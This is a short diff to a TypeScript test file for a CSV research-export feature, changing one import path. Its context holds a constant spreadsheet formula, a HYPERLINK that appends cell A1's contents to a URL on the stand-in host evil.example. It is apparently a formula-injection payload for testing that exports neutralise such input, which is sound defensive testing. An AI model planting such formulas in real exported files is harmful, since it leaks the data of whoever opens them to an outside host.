@@ -7,7 +7,7 @@ import { afterAll, beforeAll, expect, test } from 'vitest';
 import { exportRequest } from '../../common/reports.ts';
 import { runExport } from './research-export.ts';
 import { csv } from './tables.ts';
-import { openTestData, type RecordedSession, type TestData } from './test-sessions.ts';
+import { openTestData, type RecordedSession, type TestData } from '../../testing/sessions.ts';
 
 const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';
 let t: TestData;
